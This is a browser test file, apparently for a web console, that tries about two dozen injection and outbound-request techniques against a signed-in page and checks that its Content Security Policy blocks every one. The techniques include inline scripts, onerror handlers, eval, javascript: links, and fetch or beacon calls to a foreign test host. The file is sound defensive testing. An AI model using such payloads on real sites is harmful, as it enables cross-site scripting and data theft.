// What an attacker would do with a hole in the page: the policy blocks each attempt, and no other host hears of any.
import { check, foreignHost, given, signedIn } from "./browser.mjs";

// Each runs in the page as a task of its own, because what the debugger itself evaluates is exempt from the policy.
const ATTEMPTS = {
  "an inline script": () => document.body.append(Object.assign(document.createElement("script"), { text: "window.pwned = true" })),
  "an event handler": () => {
    const image = document.createElement("img");
    image.setAttribute("onerror", "window.pwned = true");
    image.src = "blob:nothing";
    document.body.append(image);
  },
  innerHTML: () => {
    document.body.appendChild(document.createElement("p")).innerHTML = "<img src=x onerror='window.pwned = true'>";
  },
  "document.write": () => document.write("<script>window.pwned = true</script>"),
  "a foreign script": (host) => document.head.append(Object.assign(document.createElement("script"), { src: `${host}/script` })),
  "a module of another host": (host) => import(`${host}/module`),
  "a module of data": () => import("data:text/javascript,window.pwned=true"),
  eval: () => eval("window.pwned = true"),
  "new Function": () => new Function("window.pwned = true")(),
  "a timer with a text": () => setTimeout("window.pwned = true", 0),
  "a javascript: address": () => {
    const link = document.createElement("a");
    link.href = "javascript:void(window.pwned = true)";
    document.body.append(link);
    link.click();
  },
  "a foreign picture": (host) => document.body.append(Object.assign(document.createElement("img"), { src: `${host}/picture` })),
  "a foreign video": (host) => document.body.append(Object.assign(document.createElement("video"), { src: `${host}/video` })),
  "a foreign frame": (host) => document.body.append(Object.assign(document.createElement("iframe"), { src: `${host}/frame` })),
  "a foreign object": (host) => document.body.append(Object.assign(document.createElement("object"), { data: `${host}/object` })),
  fetch: (host) => fetch(`${host}/fetch`),
  XMLHttpRequest: (host) => {
    const request = new XMLHttpRequest();
    request.open("GET", `${host}/xhr`);
    request.send();
  },
  "a WebSocket": (host) => new WebSocket(`${host.replace("http", "ws")}/socket`),
  "a beacon": (host) => navigator.sendBeacon(`${host}/beacon`, "key"),
  "an EventSource": (host) => new EventSource(`${host}/events`),
  "a worker of a blob": () => new Worker(URL.createObjectURL(new Blob(["1"], { type: "text/javascript" }))),
  "a foreign style sheet": (host) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${host}/style` })),
  "an inline style": () => document.head.append(Object.assign(document.createElement("style"), { textContent: "body { display: none }" })),
  "a style attribute": () => document.body.setAttribute("style", "display: none"),
  "a foreign font": (host) => new FontFace("stolen", `url(${host}/font)`).load(),
  "a form to another host": (host) => {
    const form = Object.assign(document.createElement("form"), { action: `${host}/form`, method: "post" });
    document.body.append(form);
    form.submit();
  },
  "a base address": (host) => document.head.append(Object.assign(document.createElement("base"), { href: `${host}/` })),
};

export async function injections(browser) {
  const host = await foreignHost(),
    names = Object.keys(ATTEMPTS);
  let blocked = 0;
  for (const name of names) {
    const page = await signedIn(browser);
    const { directives, pwned, hidden, moved, thrown } = await tried(page, ATTEMPTS[name], host.url);
    const isBlocked = directives.length > 0 && !pwned && !hidden && !moved;
    blocked += isBlocked ? 1 : 0;
    if (!isBlocked) check(`blocked: ${name}`, false, JSON.stringify({ directives, pwned, hidden, moved, thrown }));
    await page.context().close();
  }
  check("every injection is blocked", blocked === names.length, `${blocked} of ${names.length}`);
  check("the other host heard of none", host.asked.length === 0, host.asked.join(" "));
  await framed(browser, host);
  host.close();
}

/** Return the directives that an attempt has violated, and what it has reached all the same. */
async function tried(page, attempt, host) {
  await page.evaluate(() => {
    window.violated = [];
    addEventListener("securitypolicyviolation", (event) => window.violated.push(event.effectiveDirective));
  });
  const task = `async () => { try { await (${attempt})(${JSON.stringify(host)}); } catch (error) { window.thrown = String(error); } }`;
  await page.evaluate(`setTimeout(${task}, 0); 0`);
  await page.waitForTimeout(600);
  return page.evaluate(
    (address) => ({
      directives: window.violated || [],
      thrown: window.thrown,
      pwned: Boolean(window.pwned),
      hidden: getComputedStyle(document.body).display === "none",
      moved: !location.href.startsWith(address) || document.baseURI !== location.href,
    }),
    given.console,
  );
}

/** Another page cannot show the console in a frame. */
async function framed(browser, host) {
  const page = await browser.newPage();
  await page.goto(host.url);
  const [answer] = await Promise.all([
    page.waitForEvent("console", (message) => message.text().includes("frame-ancestors")),
    page.evaluate((address) => document.body.append(Object.assign(document.createElement("iframe"), { src: address })), given.console),
  ]);
  check("no other page can frame the console", Boolean(answer));
  await page.close();
}
